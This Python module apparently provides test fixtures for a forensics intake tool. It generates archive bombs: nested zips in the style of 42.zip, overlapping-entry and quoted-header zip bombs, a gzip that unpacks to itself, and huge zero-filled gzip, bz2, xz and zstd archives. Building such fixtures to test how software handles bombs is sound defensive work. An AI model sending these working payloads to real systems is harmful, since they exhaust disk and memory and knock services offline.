"""Archive bombs of every known kind, small enough to be made in a second or two.

Sizes in the comments are those a trusting program would unpack.
"""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable
from typing import Protocol

from h2o_forensics.intake.zst import zstd

_MB = 2**20


class _Packer(Protocol):
    def compress(self, data: bytes, /) -> bytes: ...
    def flush(self) -> bytes: ...


def _zeros(packer: _Packer, size: int, head: bytes = b"") -> bytes:
    pieces = [packer.compress(head)]
    pieces += [packer.compress(bytes(_MB)) for _ in range(size // _MB)]
    return b"".join((*pieces, packer.flush()))


def _zip(entries: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return out.getvalue()


def nested(width: int = 16, levels: int = 5, size: int = 4 * _MB) -> bytes:
    """Zips in zips, as 42.zip: width ** levels files of `size` bytes (4 TB)."""
    data = _zip([("0.dll", bytes(size))])
    for _ in range(levels):
        data = _zip([(f"lib {number}.zip", data) for number in range(width)])
    return data


def wide() -> bytes:
    """Zips in zips within the usual depth (40 GB)."""
    return nested(100, 2)


def _central(name: bytes, crc: int, packed: int, size: int, offset: int) -> bytes:
    fields = (20, 20, 0, 8, 0, 0x21, crc, packed, size, len(name), 0, 0, 0, 0, 0, offset)
    return struct.pack("<4s6H3L5H2L", b"PK\1\2", *fields) + name


def _local(name: bytes, crc: int, packed: int, size: int) -> bytes:
    return (
        struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0x21, crc, packed, size, len(name), 0)
        + name
    )


def _closed(body: bytes, directory: list[bytes]) -> bytes:
    joined, count = b"".join(directory), len(directory)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(joined), len(body), 0)
    return body + joined + end


def overlapping(count: int = 250, size: int = 21 * _MB) -> bytes:
    """One entry listed under many names (5 GB)."""
    packed, crc = _zeros(zlib.compressobj(9, 8, -15), size), zlib.crc32(bytes(size))
    body = _local(b"0", crc, len(packed), size) + packed
    names = [b"%05d" % number for number in range(count)]
    return _closed(body, [_central(name, crc, len(packed), size, 0) for name in names])


def quoted(count: int = 250, size: int = 21 * _MB) -> bytes:
    """Entries that quote the headers of the next (D. Fifield, "A better zip bomb"; 5 GB)."""
    packed = _zeros(zlib.compressobj(9, 8, -15), size)
    length, tail, ends = len(packed), packed, []
    names = [b"%05d" % number for number in range(count)]
    for name in reversed(names):
        tail = _local(name, 0, length, size) + tail
        ends.append((name, length, size, len(tail)))
        header = tail[: 30 + len(name)]
        quote = b"\0" + struct.pack("<HH", len(header), len(header) ^ 0xFFFF)
        if len(ends) < count:
            tail = quote + tail
            length += len(quote) + len(header)
            size += len(header)
    directory = [
        _central(name, 0, packed_size, size, len(tail) - at) for name, packed_size, size, at in ends
    ]
    return _closed(tail, directory)


def many(count: int = 60_000) -> bytes:
    """More entries than anyone would look through."""
    return _zip((str(number), b"") for number in range(count))


def single(size: int = 1024 * _MB) -> bytes:
    """One entry of zeros (1 GB)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros", "w", force_zip64=True) as file,
    ):
        for _ in range(size // _MB):
            file.write(bytes(_MB))
    return out.getvalue()


def chain(levels: int = 3, size: int = 256 * _MB) -> bytes:
    """Gzip in gzip in gzip of zeros."""
    data = _zeros(zlib.compressobj(9, 8, 31), size)
    for _ in range(levels - 1):
        data = gzip.compress(data, mtime=0)
    return data


def tar_zst(size: int = 1024 * _MB) -> bytes:
    """One file of zeros in a tar."""
    info = tarfile.TarInfo("zeros.log")
    info.size = size
    return _zeros(zstd.ZstdCompressor(), size, info.tobuf(tarfile.GNU_FORMAT))


def quine() -> bytes:
    """A gzip that unpacks to itself (construction: R. Cox, "Zip Files All The Way Down").

    An opcode is 5 bytes: `copy` is a stored block's header, `repeat` a block of two matches.
    """
    start = b"\x1f\x8b\x08\x08" + bytes(4) + b"\x02\xff" + b"q\0"
    for guess in range(256):
        head = start[:4] + bytes((guess,)) + start[5:]
        crc = _fixed_point(lambda crc, head=head: _program(head, crc))  # type: ignore[misc]
        if crc is not None:
            return _program(head, crc)
    raise ValueError("no checksum fits")


def _program(head: bytes, crc: int) -> bytes:
    def tail(length: int) -> bytes:
        return b"\x01\x00\x00\xff\xff" + struct.pack("<LL", crc, length)

    size = len(tail(0))
    to_head, again = _copy(len(head) + 5), _repeat(len(head) + 5)
    one, four, four_again, none = _copy(5), _copy(20), _repeat(20), _copy(0)
    to_tail, tail_again = _copy(size + 5), _repeat(size + 5)
    parts = [head, to_head, head, to_head, again, one, again, one, one, four, again, one, one, four]
    parts += [four_again, four] * 4 + [four_again, none, none, to_tail]
    parts += [four_again, none, none, to_tail]
    length = sum(map(len, parts)) + 2 * (5 + size)
    return b"".join((*parts, tail_again, tail(length), tail_again, tail(length)))


def _copy(count: int) -> bytes:
    return b"\0" + struct.pack("<HH", count, count ^ 0xFFFF)


def _repeat(count: int) -> bytes:
    """Repeat the last 17 to 20 bytes: two matches of 3 to 10 bytes, 40 bits together."""
    bits = "010"  # Not the last block; fixed codes, lowest bit first.
    for length in (count - count // 2, count // 2):
        bits += f"{length - 2:07b}" + f"{8:05b}" + f"{count - 17:03b}"[::-1]
    bits += "0000000"
    return int(bits[::-1], 2).to_bytes(5, "little")


def _fixed_point(make: Callable[[int], bytes]) -> int | None:
    """Find the value that is the CRC of what is made with it: both are linear over GF(2)."""
    base = zlib.crc32(make(0))
    rows = [(zlib.crc32(make(1 << bit)) ^ base ^ (1 << bit), 1 << bit) for bit in range(32)]
    want, found = base, 0
    for bit in range(32):
        pivot = next((row for row in rows if row[0] >> bit & 1), None)
        if pivot is None:
            if want >> bit & 1:
                return None
            continue
        rows = [
            (row[0] ^ pivot[0], row[1] ^ pivot[1]) if row[0] >> bit & 1 else row
            for row in rows
            if row is not pivot
        ]
        if want >> bit & 1:
            want, found = want ^ pivot[0], found ^ pivot[1]
    return found if zlib.crc32(make(found)) == found else None


def _packed(packer: Callable[[], _Packer], size: int) -> Callable[[], bytes]:
    return lambda: _zeros(packer(), size)


BOMBS: dict[str, Callable[[], bytes]] = {
    "nested.zip": nested,
    "wide.zip": wide,
    "overlapping.zip": overlapping,
    "quoted.zip": quoted,
    "single.zip": single,
    "many.zip": many,
    "quine.gz": quine,
    "zeros.gz": _packed(lambda: zlib.compressobj(9, 8, 31), 1024 * _MB),
    "chain.gz": chain,
    "zeros.tar.zst": tar_zst,
    "zeros.bz2": _packed(bz2.BZ2Compressor, 256 * _MB),
    "zeros.xz": _packed(lambda: lzma.LZMACompressor(preset=0), 256 * _MB),
}
